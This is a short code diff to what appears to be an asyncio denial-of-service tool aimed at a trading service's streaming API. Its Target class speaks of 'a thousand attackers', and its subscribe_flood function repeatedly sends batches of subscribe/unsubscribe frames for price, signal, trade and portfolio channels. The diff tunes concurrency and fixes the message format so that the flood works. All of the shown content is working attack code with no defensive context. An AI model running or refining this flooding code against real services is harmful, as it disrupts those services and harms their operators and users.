@@ -57,10 +57,11 @@ class Target:
         return reader, writer
 
     async def send(self, writer, data):
-        """Sends, and waits until the kernel has most of it."""
+        """Sends, waits until the kernel has most of it, and lets the other attackers have their turn."""
         writer.write(data)
         self.sent_bytes += len(data)
         await writer.drain()
+        await asyncio.sleep(0)
 
     async def send_blanks(self, writer, size):
         """Sends so many, a little at a time: a thousand attackers have no memory for more."""
@@ -270,7 +271,7 @@ async def subscribe_flood(target):
     reader, writer = await target.stream(token())
     reading = asyncio.ensure_future(drain(reader))
     asked = {"channels": ["price_updates", "signals", "trades", "portfolio"]}
-    both = b"".join(frame(json.dumps({"action": action, **asked}).encode()) for action in ("subscribe", "unsubscribe"))
+    both = b"".join(frame(json.dumps({"type": kind, **asked}).encode()) for kind in ("subscribe", "unsubscribe"))
     while not reading.done():
         await target.send(writer, both * 50)
 
